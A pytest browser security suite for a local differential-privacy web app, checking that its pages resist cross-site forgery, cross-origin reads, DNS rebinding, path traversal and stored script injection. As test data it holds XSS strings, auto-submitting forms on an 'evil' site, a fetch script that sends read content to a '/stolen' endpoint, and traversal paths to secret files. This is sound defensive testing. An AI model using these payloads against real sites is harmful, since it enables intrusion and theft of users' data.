"""Attacks on the pages in a real browser: from other sites, by other names of this machine, and by what a table holds.

None of them spends, which the ledger says, and none of them reads anything.
"""

from __future__ import annotations

import http.client
import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

import dpselect as dps
from tests.web.chromium import ELSEWHERE
from tests.web.other_site import OtherSite, other_site
from tests.web.person import Person, go_on, visiting
from tests.web.served import serving

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.slow

SCRIPT = "<script>window.pwned=1</script>"
PICTURE = "\"><img src=x onerror='window.pwned=1'>"
SECRET = "value-of-nobody-else"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attacked")
    with (folder / "table.csv").open("w", encoding="utf-8", newline="") as file:
        file.write(f'person,"{SCRIPT}","{PICTURE.replace(chr(34), 2 * chr(34))}"\n')
        for person in range(400):
            file.write(f'{person},"{SCRIPT}","{PICTURE.replace(chr(34), 2 * chr(34))}"\n')
        file.write(f"400,{SECRET},{SECRET}\n")
    (folder / "secret.txt").write_text(SECRET, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def ledger(folder: Path) -> Iterator[dps.Ledger]:
    with dps.Ledger(f"sqlite:///{folder / 'budget.db'}") as ledger:
        ledger.open_account("people", epsilon=100.0, unit="person")
        yield ledger


@pytest.fixture(scope="module")
def person(browser: Browser, folder: Path, ledger: dps.Ledger) -> Iterator[Person]:
    """Somebody who has a table that others have written into."""
    payer = "--ledger", f"sqlite:///{folder / 'budget.db'}", "--account", "people"
    with serving("table.csv", "--unit", "person", *payer, folder=folder) as server, visiting(browser, server) as person:
        yield person
        assert SECRET not in "".join(server.log)


@pytest.fixture(scope="module")
def evil() -> Iterator[OtherSite]:
    with other_site() as evil:
        yield evil


@pytest.fixture
def confirmation(person: Person) -> str:
    """The path of a page that waits for one press to spend; the attackers know it."""
    person.go("/ask/most_common")
    person.page.get_by_label("column", exact=True).select_option(SCRIPT)
    person.page.locator("#candidates").fill(f"{SCRIPT}\n{PICTURE}")
    go_on(person.page)
    person.page.get_by_role("button", name="Spend it").wait_for()
    return person.page.url.removeprefix(person.server.origin)


def spent(ledger: dps.Ledger) -> int:
    """How often something was charged."""
    return sum(entry.kind == "charge" for entry in ledger.history("people"))


def sites(evil: OtherSite) -> list[str]:
    """Addresses of the other site: of another site, and of another port of the same one."""
    return [f"http://evil.{ELSEWHERE}:{evil.port}", f"http://127.0.0.1:{evil.port}", f"http://localhost:{evil.port}"]


def test_the_attacked_page_does_spend_when_it_is_pressed(person: Person, ledger: dps.Ledger, confirmation: str) -> None:
    before = spent(ledger)
    person.page.get_by_role("button", name="Spend it").click()
    person.page.get_by_role("heading", name="Take it along").wait_for()
    assert spent(ledger) == before + 1


@pytest.mark.parametrize("site", range(3))
def test_forms_and_scripts_of_other_sites_spend_and_read_nothing(
    person: Person, ledger: dps.Ledger, evil: OtherSite, confirmation: str, site: int
) -> None:
    before, target = spent(ledger), person.server.origin + confirmation
    evil.pages["/post"] = f'<form id=f method=post action="{target}"></form><script>f.submit()</script>'
    ask = f"{person.server.origin}/ask/count/confirm"
    fields = '<input name="epsilon" value="1">'
    evil.pages["/ask"] = f'<form id=f method=post action="{ask}">{fields}</form><script>f.submit()</script>'
    evil.pages["/fetch"] = f"""<title>trying</title><script>
        const tries = [
            fetch("{target}", {{method: "POST", mode: "no-cors", credentials: "include"}}).then(r => r.text()),
            fetch("{target}", {{method: "POST", credentials: "include"}}).then(r => r.text()),
            fetch("{target}", {{credentials: "include"}}).then(r => r.text()),
            fetch("{person.server.origin}/", {{mode: "no-cors", credentials: "include"}}).then(r => r.text()),
        ];
        Promise.allSettled(tries).then(all => {{
            const read = all.map(each => each.value || "").join("");
            fetch("/stolen?" + encodeURIComponent("read:" + read)).finally(() => {{ document.title = "tried"; }});
        }});
        </script>"""
    evil.pages["/frame"] = f'<iframe src="{target}"></iframe><img src="{person.server.origin}/static/icon.svg">'
    tab = person.context.new_page()
    evil.stolen.clear()
    for path in ("/post", "/ask"):
        tab.goto(sites(evil)[site] + path)
        tab.get_by_role("heading", name="Refused").or_(tab.get_by_role("heading", name="Not open here")).wait_for()
    tab.goto(sites(evil)[site] + "/fetch")
    tab.wait_for_function("document.title == 'tried'")
    assert evil.stolen == ["read%3A"]
    tab.goto(sites(evil)[site] + "/frame", wait_until="load")
    for _ in range(200):
        inside = [frame.url for frame in tab.frames[1:]]
        if inside != [""]:  # which it is until the browser has refused it
            break
        tab.wait_for_timeout(50)
    assert inside == ["chrome-error://chromewebdata/"]
    assert tab.evaluate("document.querySelector('img').naturalWidth") == 0
    tab.close()
    assert spent(ledger) == before


def test_a_name_that_was_pointed_to_this_machine_reads_and_spends_nothing(
    person: Person, ledger: dps.Ledger, confirmation: str
) -> None:
    before = spent(ledger)
    tab = person.context.new_page()
    rebound = f"http://rebound.{ELSEWHERE}:{person.server.port}"
    for path in ("/", confirmation, person.server.opening.removeprefix(person.server.origin)):
        response = tab.goto(rebound + path)
        assert response is not None
        assert (response.status, tab.locator("h1").inner_text()) == (400, "Not this address")
    told = tab.evaluate("path => fetch(path, {method: 'POST'}).then(r => r.status)", confirmation)
    assert told == 400
    tab.close()
    assert spent(ledger) == before


def test_the_address_works_once(person: Person, browser: Browser, confirmation: str) -> None:
    other = browser.new_context()
    tab = other.new_page()
    for address in (person.server.opening, person.server.origin + "/", person.server.origin + confirmation):
        response = tab.goto(address)
        assert response is not None
        assert (response.status, tab.locator("h1").inner_text()) == (403, "Not open here")
    other.close()


def test_other_files_have_no_address(person: Person) -> None:
    (cookie,) = person.context.cookies()
    up = ("..", "%2e%2e", "..%2f..", "%2e%2e%2f%2e%2e", "....//", "..\\..")
    tried = [f"/{place}/{way}/secret.txt" for place in ("static", "chart", "release", "looked", "ask") for way in up]
    tried += [f"/static//{Path('/etc/hostname')}", "/secret.txt", "/table.csv", "/static/table.csv", "/budget.db"]
    for path in tried:
        connection = http.client.HTTPConnection("127.0.0.1", person.server.port, timeout=30)
        connection.request("GET", path, headers={"Cookie": f"{cookie['name']}={cookie['value']}"})
        answer = connection.getresponse()
        held = answer.read().decode()
        connection.close()
        assert (path, answer.status, SECRET in held) == (path, 404, False)


def test_a_form_that_is_sent_again_and_again_is_charged_once(
    person: Person, ledger: dps.Ledger, confirmation: str
) -> None:
    before = spent(ledger)
    told = person.page.evaluate(
        "path => Promise.all([...Array(8)].map(() => fetch(path, {method: 'POST', body: new URLSearchParams()})"
        ".then(r => r.status)))",
        confirmation,
    )
    assert told == [200] * 8  # the page with the answer, to which each is sent on
    person.go(confirmation)
    person.page.get_by_role("heading", name="Take it along").wait_for()
    assert spent(ledger) == before + 1


def test_scripts_in_names_and_values_are_shown_and_do_not_run(person: Person, confirmation: str) -> None:
    page = person.page
    assert SCRIPT in page.locator("main").inner_text()
    page.get_by_role("button", name="Spend it").click()
    page.get_by_role("heading", name="Take it along").wait_for()
    assert page.locator(".value").inner_text() == SCRIPT
    paths = ["/", "/ask/histogram", f"/ask/most_common?from={confirmation.rpartition('/')[2]}", confirmation, "/ledger"]
    for path in paths:
        person.go(path)
        assert page.evaluate("window.pwned") is None
        assert page.locator("img[onerror]").count() == page.locator("script:not([src])").count() == 0
    person.go("/ask/histogram")
    page.get_by_label("column", exact=True).select_option(PICTURE)
    page.locator("#candidates").fill(f"{SCRIPT}\n{PICTURE}")
    page.get_by_role("button", name="See which rows").click()
    page.get_by_text("401 of 401 units").or_(page.get_by_text("Only for you")).first.wait_for()
    go_on(page)
    page.get_by_role("button", name="Spend it").click()
    page.get_by_role("heading", name="Take it along").wait_for()
    rows = page.locator("tbody tr td:first-child").all_inner_texts()
    assert {SCRIPT, PICTURE} == {*rows}
    picture = page.locator("figure img").get_attribute("src")
    assert picture is not None
    with page.expect_download() as downloading:
        page.get_by_role("link", name="Certificate").click()
    assert SCRIPT in json.dumps(json.loads(downloading.value.path().read_text(encoding="utf-8")))
    person.go(picture)  # as a document of its own, in which scripts could run
    assert page.evaluate("[window.pwned, document.querySelectorAll('script, [onerror]').length]") == [None, 0]
    assert person.problems == []
